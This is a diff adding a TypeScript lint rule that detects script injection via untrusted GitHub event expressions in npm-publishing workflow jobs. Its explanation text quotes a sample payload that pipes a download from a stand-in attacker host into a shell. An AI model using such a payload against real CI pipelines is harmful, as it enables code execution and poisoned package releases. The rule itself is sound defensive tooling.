@@ -1,0 +1,106 @@
+import { defineRule } from '../../src/engine/define-rule.js';
+import type { ProjectFacts } from '../../src/model/facts.js';
+import { localActionDir } from '../../src/model/github/publishes.js';
+import type { Job } from '../../src/model/github/types.js';
+import { isLocalAction } from '../../src/model/github/workflow.js';
+import type { YNode } from '../../src/yaml/parse.js';
+import { untrustedIn } from './contexts.js';
+
+const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
+
+const INJECTION_WHY =
+  'GitHub substitutes the expression into the script text before the shell starts, so {what} becomes shell code: a value such as `"; curl https://evil.example/x | sh #` runs as a command. Anyone who can set it (open an issue or a pull request, name a branch, write a commit message) runs commands';
+
+export default defineRule({
+  id: 'no-script-injection-in-publish-job',
+  meta: {
+    severity: 'warning',
+    providers: ['github'],
+    summary: 'No attacker-controlled `${{ github.event.* }}` text is expanded into a script of the publishing job or a job it needs',
+    // Script injection in a job that can mint the npm OIDC token is a publish by anyone who can
+    // open an issue or name a branch; it needs the event to reach the job (7.0).
+    securitySeverity: 7.0,
+    messages: {
+      publishingJob: {
+        text: 'Job "{job}" {publishes} to npm and expands `{expression}` ({what}) into a {kind}',
+        why: `${INJECTION_WHY} inside the job that can mint the npm OIDC token and publish with valid provenance`,
+        fix: 'Pass the value through `env:` (for example `env: VALUE: {expression}`) and use it quoted as `"$VALUE"` in the script',
+      },
+      neededJob: {
+        text: 'Job "{job}", whose results publishing job "{publisher}" uses (`needs`), expands `{expression}` ({what}) into a {kind}',
+        why: `${INJECTION_WHY} in a job whose outputs, artifacts and caches the publishing job trusts: a poisoned build ships in the published package`,
+        fix: 'Pass the value through `env:` (for example `env: VALUE: {expression}`) and use it quoted as `"$VALUE"` in the script',
+      },
+    },
+  },
+  hooks: {
+    project(project, ctx) {
+      const reported = new Set<string>();
+      for (const publisher of ctx.facts.publishingJobs) {
+        const certainty = ctx.facts.jobCertainty(publisher);
+        const chains = project.callGraph.entryChains(publisher.workflow);
+        // The events that can reach the job; unknown for a workflow only another repository calls.
+        const events = chains.length === 0 ? undefined : new Set(chains.flatMap((c) => c.entry.triggers.map((t) => t.event)));
+        for (const job of withNeeds(publisher)) {
+          for (const script of scriptsOf(job, ctx.facts)) {
+            const text = script.node.text ?? '';
+            for (const m of text.matchAll(EXPRESSION)) {
+              const found = untrustedIn(m[1] ?? '', events);
+              if (found.length === 0) continue;
+              const location = { file: script.node.file, ...script.node.valueSpan(m.index, m.index + m[0].length) };
+              const key = `${location.file}:${location.start.line}:${location.start.column}`;
+              if (reported.has(key)) continue;
+              reported.add(key);
+              const data = { job: job.id, expression: m[0], what: found.map((c) => c.what).join(', '), kind: script.kind };
+              if (job === publisher) {
+                ctx.report({ messageId: 'publishingJob', data: { ...data, publishes: ctx.facts.verb(job) }, at: location, certainty });
+              } else {
+                ctx.report({
+                  messageId: 'neededJob',
+                  data: { ...data, publisher: publisher.id },
+                  at: location,
+                  related: [{ at: publisher.node, label: `publishing job "${publisher.id}"` }],
+                  certainty,
+                });
+              }
+            }
+          }
+        }
+      }
+    },
+  },
+});
+
+/** The job and every job it needs, directly or through other jobs, in the same workflow. */
+function withNeeds(job: Job): Job[] {
+  const out: Job[] = [job];
+  for (let i = 0; i < out.length; i++) {
+    for (const id of out[i]!.needs) {
+      const needed = job.workflow.jobs.find((j) => j.id === id);
+      if (needed && !out.includes(needed)) out.push(needed);
+    }
+  }
+  return out;
+}
+
+/**
+ * The script texts a job runs: each step's `run:`, `actions/github-script`'s `script:`, and the
+ * same inside the local composite actions it uses (one level).
+ */
+function scriptsOf(job: Job, facts: ProjectFacts): { node: YNode; kind: string }[] {
+  const out: { node: YNode; kind: string }[] = [];
+  const add = (uses: string | undefined, run: YNode | undefined, script: YNode | undefined): void => {
+    if (run?.text !== undefined) out.push({ node: run, kind: '`run:` script' });
+    if (script?.text !== undefined && uses?.toLowerCase().startsWith('actions/github-script@')) out.push({ node: script, kind: '`actions/github-script` script' });
+  };
+  for (const step of job.steps) {
+    const uses = step.uses?.node.text;
+    add(uses, step.run?.node, step.with.get('script'));
+    if (step.uses && isLocalAction(step.uses.name)) {
+      const dir = localActionDir(job, step.uses.name);
+      const items = dir === undefined ? undefined : facts.action(dir)?.root?.at('runs', 'steps');
+      for (const inner of items?.isSeq ? items.items() : []) add(inner.get('uses')?.text, inner.get('run'), inner.at('with', 'script'));
+    }
+  }
+  return out;
+}
